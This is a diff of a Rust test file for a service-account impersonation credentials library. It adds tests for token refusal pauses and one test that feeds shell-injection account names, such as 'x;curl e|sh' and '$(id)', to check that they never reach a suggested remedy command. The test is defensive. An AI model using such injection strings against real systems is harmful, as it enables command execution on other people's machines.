@@ -4,6 +4,7 @@ use serde_json::{Value, json};
 
 use super::*;
 use crate::Credentials;
+use crate::refused::pass_the_pause;
 
 const TARGET: &str = "target@ee-demo-project.iam.gserviceaccount.com";
 const MIDDLE: &str = "middle@ee-demo-project.iam.gserviceaccount.com";
@@ -409,30 +410,72 @@ fn an_address_is_one_that_can_stand_in_a_url() {
 #[tokio::test]
 async fn tokens_of_the_source_that_are_refused_do_not_end_the_account_for_good() {
     let emulator = start().await;
-    let options = options(&emulator);
     emulator.allow_impersonation(ROBOT, TARGET);
-    let source = Credentials::from_json(&key(&emulator).to_string(), &options).unwrap();
-    let account = Arc::new(ImpersonatedServiceAccount {
-        url: url(TARGET).parse().unwrap(),
-        target: TARGET.to_owned(),
-        delegates: Vec::new(),
-        scopes: Scopes::earth_engine(),
-        lifetime: DEFAULT_LIFETIME,
-        source: source.cache().unwrap().clone(),
-        source_quota_project: None,
-        source_principal: Some(ROBOT.into()),
-        refused: Mutex::default(),
-        http: options.http.clone(),
-    });
-    let tokens = TokenCache::new(account.clone());
+    let credentials = read(&file(TARGET, &key(&emulator)), &options(&emulator));
     let unauthorized = json!({"error": {"code": 401, "status": "UNAUTHENTICATED"}});
     emulator.fault(IAM, Fault::status(401).json(&unauthorized).times(2));
     for _ in 0..3 {
-        let error = tokens.token().await.unwrap_err();
+        let error = credentials.token().await.unwrap_err();
         assert_eq!(error.kind(), Token::Expired);
     }
     assert_eq!(emulator.requests_to(IAM).len(), 2, "a pause is kept");
 
-    *account.refused.lock().unwrap() = Instant::now().checked_sub(PAUSE);
-    tokens.token().await.unwrap();
+    pass_the_pause().await;
+    credentials.token().await.unwrap();
+}
+
+#[tokio::test]
+async fn a_role_that_is_granted_while_the_program_runs_ends_the_refusal() {
+    let emulator = start().await;
+    let credentials = read(&file(TARGET, &key(&emulator)), &options(&emulator));
+    for _ in 0..2 {
+        let error = credentials.token().await.unwrap_err();
+        assert_eq!(error.kind(), Token::Rejected);
+    }
+    assert_eq!(emulator.requests_to(IAM).len(), 1, "a pause is kept");
+    emulator.allow_impersonation(ROBOT, TARGET);
+    pass_the_pause().await;
+    credentials.token().await.unwrap();
+}
+
+#[tokio::test]
+async fn a_source_that_was_rejected_is_not_tried_again_however_long_ago_that_was() {
+    let emulator = start().await;
+    let robot = key(&emulator);
+    let credentials = read(&file(TARGET, &robot), &options(&emulator));
+    emulator.delete_service_account(ROBOT);
+    credentials.token().await.unwrap_err();
+    let sent = emulator.requests().len();
+    pass_the_pause().await;
+    credentials.token().await.unwrap_err();
+    assert_eq!(emulator.requests().len(), sent);
+}
+
+#[tokio::test]
+async fn a_name_that_a_shell_would_run_does_not_get_into_a_command() {
+    let emulator = start().await;
+    for name in [
+        "x;curl e|sh #@p.example",
+        "--flags-file=x@p.example",
+        "$(id)@p.example",
+    ] {
+        let mut login = login(&emulator);
+        login["account"] = json!(name);
+        let mut key = key(&emulator);
+        key["client_email"] = json!(name);
+        for source in [login, key] {
+            let credentials = read(&file(TARGET, &source), &options(&emulator));
+            emulator.fault(
+                "oauth2.googleapis.com",
+                Fault::status(200).json(&json!({"access_token": "ya29.x", "expires_in": 3600})),
+            );
+            let denied =
+                json!({"error": {"code": 403, "message": format!("{} denied", iam::PERMISSION)}});
+            emulator.fault(IAM, Fault::status(403).json(&denied));
+            let error = credentials.token().await.unwrap_err();
+            assert_eq!(error.principal(), Some(name));
+            let command = error.remedy().unwrap().command.clone().unwrap();
+            assert!(command.contains(" --member=MEMBER "), "{command}");
+        }
+    }
 }
